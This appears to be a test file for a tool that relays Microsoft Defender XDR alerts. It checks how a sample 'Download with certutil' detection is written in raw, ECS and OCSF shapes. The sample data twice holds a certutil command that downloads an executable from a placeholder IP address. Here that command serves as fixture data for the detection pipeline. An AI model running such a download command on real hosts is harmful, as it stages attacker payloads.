/** What each shape makes of a row, and that every destination for machines sends it. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { textOf } from '../../lab/delivery.ts';
import { createDestination } from '../../src/destinations/create.ts';
import { DESTINATIONS, destinationSchema } from '../../src/destinations/list.ts';
import { SHAPES, type Shape, writeShape } from '../../src/destinations/shapes.ts';
import { nodeFiles } from '../../src/hosts/node/files.ts';
import { nodeHttpClient } from '../../src/hosts/node/http.ts';
import { depsOf } from './deps.ts';
import { alert, deliveryOf } from './samples.ts';

const sample = alert(7);

/** The sample in each shape. A shape without an entry does not compile. */
const EXPECTED: Readonly<Record<Shape, unknown>> = {
  raw: {
    time: sample.received,
    tenantId: sample.tenant,
    operationName: 'Publish',
    category: 'AdvancedHunting-DeviceProcessEvents',
    properties: sample.event,
  },
  relay: sample,
  ecs: {
    '@timestamp': '2026-11-23T07:01:02.1234567Z',
    ecs: {
      version: '9.4.0',
    },
    event: {
      kind: 'alert',
      module: 'microsoft_defender_xdr',
      dataset: 'microsoft_defender_xdr.device_process_events',
      id: 'da54bca6a00ac14ebb8630537a60f242',
      created: '2026-11-23T07:03:00.0000000Z',
      severity: 4,
      category: ['process'],
      type: ['info'],
    },
    organization: {
      id: '11111111-2222-3333-4444-555555555555',
    },
    message: 'Download with certutil',
    tags: ['attack.command-and-control', 'attack.t1105'],
    rule: {
      name: 'Download with certutil',
      id: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
      description: 'certutil fetches a file, which administrators seldom do.',
    },
    threat: {
      framework: 'MITRE ATT&CK',
      tactic: {
        name: ['Command and Control'],
        id: ['TA0011'],
      },
      technique: {
        id: ['T1105'],
      },
    },
    related: {
      hosts: ['ws-042.contoso.example'],
      user: ['alice@contoso.example'],
    },
    host: {
      id: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
      name: 'ws-042.contoso.example',
    },
    process: {
      name: 'certutil.exe',
      command_line: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
      parent: {
        name: 'cmd.exe',
      },
    },
    user: {
      email: 'alice@contoso.example',
    },
    microsoft: {
      defender_xdr: {
        ReportId: 7,
      },
    },
    xdr_relay: {
      blob: sample.source.blob,
      offset: 11550,
      event_id: '00000000000000000000000000000007',
      matched: [
        {
          column: 'FileName',
          value: 'certutil.exe',
        },
      ],
    },
  },
  ocsf: {
    activity_id: 1,
    activity_name: 'Create',
    category_uid: 2,
    class_uid: 2004,
    class_name: 'Detection Finding',
    metadata: {
      log_name: 'AdvancedHunting-DeviceProcessEvents',
      original_time: '2026-11-23T07:01:02.1234567Z',
      product: {
        name: 'Microsoft Defender XDR',
        vendor_name: 'Microsoft',
      },
      tenant_uid: '11111111-2222-3333-4444-555555555555',
      uid: 'da54bca6a00ac14ebb8630537a60f242',
      version: '1.8.0',
    },
    observables: [
      {
        name: 'device.hostname',
        type_id: 1,
        type: 'Hostname',
        value: 'ws-042.contoso.example',
      },
    ],
    severity_id: 4,
    time: 1795417262123,
    type_uid: 200401,
    finding_info: {
      uid: 'da54bca6a00ac14ebb8630537a60f242',
      title: 'Download with certutil',
      desc: 'certutil fetches a file, which administrators seldom do.',
      analytic: {
        name: 'Download with certutil',
        uid: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
        type_id: 1,
      },
      attacks: [
        {
          technique: {
            uid: 'T1105',
          },
          tactics: [
            {
              name: 'Command and Control',
              uid: 'TA0011',
            },
          ],
        },
      ],
      related_events: [
        {
          uid: '00000000000000000000000000000007',
        },
      ],
    },
    is_alert: true,
    message: 'Download with certutil',
    status_id: 1,
    device: {
      uid: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
      hostname: 'ws-042.contoso.example',
      type_id: 0,
    },
    unmapped: {
      Timestamp: '2026-11-23T07:01:02.1234567Z',
      AccountUpn: 'alice@contoso.example',
      FileName: 'certutil.exe',
      InitiatingProcessFileName: 'cmd.exe',
      ProcessCommandLine: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
      ReportId: 7,
      xdr_relay: {
        blob: sample.source.blob,
        offset: 11550,
        event_id: '00000000000000000000000000000007',
        matched: [
          {
            column: 'FileName',
            value: 'certutil.exe',
          },
        ],
      },
    },
  },
};

const MACHINES = DESTINATIONS.filter(({ audience }) => audience === 'machines');
const deps = { ...depsOf(nodeHttpClient), files: nodeFiles };

describe.each(SHAPES)('the shape %s', (shape) => {
  it('has these keys and values', () => {
    expect(JSON.parse(textOf((writer) => writeShape(shape, deliveryOf(sample), writer)))).toEqual(
      EXPECTED[shape],
    );
  });

  it('is one line of JSON, whatever the row holds', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), (event) => {
        // The type of jsonValue is wider than JsonObject; its values are JSON.
        const delivery = deliveryOf(alert(1, { event: JSON.parse(JSON.stringify(event)) }));
        const text = textOf((writer) => writeShape(shape, delivery, writer));
        expect(text).not.toContain('\n');
        expect(() => JSON.parse(text)).not.toThrow();
      }),
    );
  });

  it.each(MACHINES)('is what $type sends', async ({ least }) => {
    const destination = createDestination('tested', destinationSchema.parse({ ...least, shape }), deps);
    const delivery = deliveryOf(sample);
    const payload = textOf((writer) => destination.encoding.write(delivery, writer));
    expect(payload).toContain(textOf((writer) => writeShape(shape, delivery, writer)));
    await destination.close();
  });
});
